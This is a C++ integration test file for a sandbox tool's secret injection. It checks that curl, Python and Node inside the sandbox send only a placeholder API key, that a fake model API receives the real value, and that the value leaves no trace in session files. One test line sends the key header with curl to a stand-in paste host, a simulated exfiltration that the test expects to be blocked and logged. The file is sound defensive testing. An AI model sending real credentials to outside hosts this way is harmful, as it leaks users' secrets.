// Secrets in a real session (issue 38): inside test-network (tests/probe) a TLS stand-in for a
// model API listens on 198.18.0.1 under the name model.test.example with a certificate of the
// test's own CA, which only the supervisor trusts (SSL_CERT_FILE). curl, Python and Node in
// the sandbox send the placeholder they were given; the host gets the value; a placeholder
// sent elsewhere is refused and recorded; and the value is nowhere in what the session left.
#include "FakeModelApi.h"
#include "IntegrationSupport.h"
#include "ProxyTestSupport.h"
#include "support/TestNetwork.h"

#include <fstream>
#include <sstream>

namespace fs = std::filesystem;
using sbit::contains;

namespace {

const std::string kValue = "sk-ant-api03-THEREALVALUE-" + sbit::uniqueToken() + "0123456789";

// Every file under `root` whose bytes hold `needle`.
std::vector<std::string> filesHolding(const fs::path& root, const std::string& needle)
{
    std::vector<std::string> out;
    std::error_code ec;
    for (fs::recursive_directory_iterator it(root, ec), end; !ec && it != end; it.increment(ec))
        if (it->is_regular_file(ec) &&
            sbtest::readFile(it->path()).find(needle) != std::string::npos)
            out.push_back(it->path().string());
    return out;
}

} // namespace

TEST(Secrets, ProgramsSendThePlaceholderAndTheHostReceivesTheValue)
{
    sbit::Sandbench sb;
    sbit::TestNetwork net{.names = {"model.test.example", "paste.test.example"},
                          .timeoutSeconds = 150};
    sbtest::TempDir server;
    auto pki = sbproxytest::makeTestPki(server.path(), "DNS:model.test.example");
    ASSERT_TRUE(pki.ok()) << pki.error().message;
    const std::string api = std::to_string(net.port + 2), web = std::to_string(net.port);
    const fs::path policy = sb.writePolicy(R"({"version": 1,
      "network": {"mode": "filtered", "default": "deny", "rules": [
        {"action": "allow", "host": "model.test.example", "ports": [)" +
                                           api + R"(]},
        {"action": "allow", "host": "paste.test.example", "ports": [)" +
                                           web + R"(]}]},
      "env": {"pass": ["ANTHROPIC_*"]},
      "secrets": {"anthropic": {"from": {"env": "THE_REAL_KEY"}, "hosts": ["model.test.example"],
                                "ports": [)" +
                                           api + R"(], "env": "ANTHROPIC_API_KEY"}}})");
    const std::string url = "https://model.test.example:" + api + "/v1/messages";
    // URL and WEB are filled in below.
    std::string inside = R"SH(
echo "seen inside: $ANTHROPIC_API_KEY"
curl -sS --max-time 20 -H "x-api-key: $ANTHROPIC_API_KEY" -d '{"model": "m-curl"}' @URL@
echo
python3 -c '
import json, os, urllib.request
r = urllib.request.Request("@URL@", data=b"{\"model\": \"m-python\"}",
    headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]})
print("python:", json.load(urllib.request.urlopen(r, timeout=20))["usage"]["input_tokens"])'
node -e '
fetch("@URL@", {method: "POST", headers: {"x-api-key": process.env.ANTHROPIC_API_KEY},
      body: JSON.stringify({model: "m-node"})})
  .then(r => r.json()).then(j => console.log("node:", j.usage.output_tokens))
  .catch(e => { console.log("node failed:", e.cause || e); process.exit(1); })'
echo "paste: $(curl -sS --max-time 20 -o /dev/null -w "%{http_code}" -H "x-api-key: $ANTHROPIC_API_KEY" http://paste.test.example:@WEB@/)"
)SH";
    // In the server's folder (api.port, api.err); the inside script comes in INSIDE.
    std::string script =
        "cd " + server.path().string() + " || exit 1\n" +
        sbit::startFakeModelApi(server.path(), "198.18.0.1", net.port + 2, pki->serverCert,
                                pki->serverKey, server / "keys.log") +
        R"(
SSL_CERT_FILE=@CA@ THE_REAL_KEY=@VALUE@ @CLI@ run --workspace @WORKSPACE@ --session-id secrets \
  --policy @POLICY@ -- bash -c "$INSIDE"
status=$?
kill $api
exit $status
)";
    const std::map<std::string, std::string> words = {{"@CA@", pki->caCert},
                                                      {"@VALUE@", kValue},
                                                      {"@CLI@", sbtest::cliPath()},
                                                      {"@WORKSPACE@", sb.workspace().string()},
                                                      {"@POLICY@", policy.string()},
                                                      {"@URL@", url},
                                                      {"@WEB@", web}};
    auto result = net.run(sb, {"env", "INSIDE=" + sbit::filledIn(inside, words), "bash", "-c",
                               sbit::filledIn(script, words)});
    ASSERT_EQ(result.status, 0) << result.out << result.err << sbtest::readFile(server / "api.err");

    // Inside: the placeholder, shaped like the key.
    const auto seen = result.out.find("seen inside: sk-ant-api03-");
    ASSERT_NE(seen, std::string::npos) << result.out;
    EXPECT_FALSE(contains(result.out, kValue));
    EXPECT_TRUE(contains(result.out, R"("input_tokens": 11)")) << result.out;
    EXPECT_TRUE(contains(result.out, "python: 11")) << result.out;
    EXPECT_TRUE(contains(result.out, "node: 7")) << result.out;
    EXPECT_TRUE(contains(result.out, "paste: 403")) << result.out;
    // The host: the value, three times (curl, Python, Node), never the placeholder.
    EXPECT_EQ(sbtest::readFile(server / "keys.log"), kValue + "\n" + kValue + "\n" + kValue + "\n");

    // Recorded: three model requests with their tokens, and the leak.
    const auto models = sbit::recordedPayloads(sb, "secrets", "model");
    ASSERT_EQ(models.size(), 3u) << result.err;
    for (const auto& m : models) {
        EXPECT_EQ(m.value("input_tokens", 0), 11);
        EXPECT_EQ(m.value("output_tokens", 0), 7);
    }
    const auto leaks = sbit::recordedPayloads(sb, "secrets", "leak");
    ASSERT_EQ(leaks.size(), 1u);
    EXPECT_EQ(leaks[0].value("secret", ""), "anthropic");
    EXPECT_EQ(leaks[0].value("host", ""), "paste.test.example");

    // Nowhere in the recordings, the session folder, the home or the supervisor's messages.
    EXPECT_EQ(filesHolding(sb.home().parent_path(), kValue), std::vector<std::string>{});
    EXPECT_FALSE(contains(result.err, kValue));
}

TEST(Secrets, ARequiredSecretWithoutAValueStopsTheStartNamingIt)
{
    sbit::Sandbench sb;
    const fs::path policy = sb.writePolicy(R"({"version": 1,
      "secrets": {"anthropic": {"from": {"env": "SANDBENCH_TEST_UNSET_KEY"},
                                "hosts": ["api.anthropic.com"], "env": "ANTHROPIC_API_KEY"}}})");
    auto r = sb.run({"true"}, sbit::withOptions({"--policy", policy.string()}));
    EXPECT_EQ(r.status, 125) << r.err;
    EXPECT_TRUE(contains(r.err, "secret 'anthropic': SANDBENCH_TEST_UNSET_KEY is not set"))
        << r.err;
}

TEST(Secrets, AnOptionalSecretWithoutAValueLeavesItsVariableUnset)
{
    sbit::Sandbench sb;
    const fs::path policy = sb.writePolicy(R"({"version": 1,
      "env": {"pass": ["ANTHROPIC_*"]},
      "secrets": {"anthropic": {"from": {"file": "~/.no-such-key"}, "optional": true,
                                "hosts": ["api.anthropic.com"], "env": "ANTHROPIC_API_KEY"}}})");
    // The caller's own variable of that name does not pass either: only a secret fills it.
    sbit::RunSpec spec = sbit::withOptions({"--policy", policy.string()});
    spec.env = {{"ANTHROPIC_API_KEY", "sk-ant-from-the-caller-123456"}};
    auto r = sb.sh("echo \"key=[${ANTHROPIC_API_KEY-unset}]\"", spec);
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_TRUE(contains(r.out, "key=[unset]")) << r.out;
    EXPECT_TRUE(contains(r.err, "secret 'anthropic'")) << r.err;
}

TEST(Secrets, DoctorSaysWhatSecretsRunOn)
{
    sbit::Sandbench sb;
    auto doctor = sb.cli({"doctor"});
    EXPECT_TRUE(contains(doctor.out, "secrets         TLS termination with OpenSSL 3"))
        << doctor.out;
    EXPECT_TRUE(contains(doctor.out, "keyring source: libsecret")) << doctor.out;
}
